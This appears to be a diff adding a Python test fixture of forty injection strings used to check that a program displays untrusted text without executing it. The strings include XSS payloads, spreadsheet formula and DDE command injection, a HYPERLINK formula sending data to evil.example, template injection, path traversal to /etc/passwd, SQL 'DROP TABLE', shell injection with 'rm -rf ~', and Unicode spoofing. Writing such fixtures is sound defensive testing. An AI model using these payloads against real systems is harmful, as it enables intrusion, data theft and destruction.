@@ -1,0 +1,48 @@
+"""Forty texts that some program, somewhere, has obeyed instead of shown. 9801547 appears in an output only where one was computed."""
+
+from __future__ import annotations
+
+COMPUTED = "9801547"  # 1337 × 7331
+SECRETS = ("root:x:0", COMPUTED)
+PAYLOADS: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(2)>',
+    "'><svg/onload=alert(3)>",
+    "</title></style></script><script src=//evil.example/x.js></script>",
+    '" onmouseover="alert(4)" style="background:url(http://evil.example/a)',
+    "<iframe src=javascript:alert(5)></iframe>",
+    '<a href="http://evil.example/b">click</a>',
+    "<!-- comment --><![CDATA[ x ]]><?php system(1) ?>",
+    "&lt;b&gt;&amp;&#60;script&#62;&quot;&#x27;",
+    "<base href=http://evil.example/><meta http-equiv=refresh content=0>",
+    "=1337*7331",
+    "+1337*7331",
+    "-1337*7331+cmd|' /C calc'!A0",
+    "@SUM(1337*7331)",
+    "\t=1337*7331",
+    "\r=1337*7331",
+    "=cmd|' /C notepad'!'A1'",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    'a",=1337*7331,"b',
+    "x\n=1337*7331\nL99,disease,me",
+    "{{1337*7331}}",
+    "{% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "${1337*7331} #{1337*7331} <%= 1337*7331 %>",
+    '#read("/etc/passwd")',
+    '#(1337*7331) $ x^2 $ \\ *bold* _it_ `raw` #link("http://evil.example")[x]',
+    '#eval("1337*7331") ]#panic() //',
+    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
+    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
+    "\u202egnp.exe\u202c \u2066iso\u2069",
+    "nul\x00in the middle",
+    "bell\x07 backspace\x08\x08\x08 vertical\x0b form\x0c delete\x7f c1\x9b31m",
+    "first line\r\nstatus: REVIEWED\r\nsecond line",
+    "A" * 10_000,
+    "\u0430dm\u0456n \uff1d1337*7331 \u2028 \u2029 \ufeff \u200b\u00ad",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32\\config",
+    "%s%s%s%n %x {0.__class__} {self} {} %(name)s",
+    "'; DROP TABLE lesion; --",
+    "$(touch /tmp/pwned) `id` ; rm -rf ~ | cat & \\",
+    "\U0001f480 e\u0301\u0327\u0323\u0324" + "\u0300" * 60 + " \U000e0041 \ud7ff \uffff",
+)
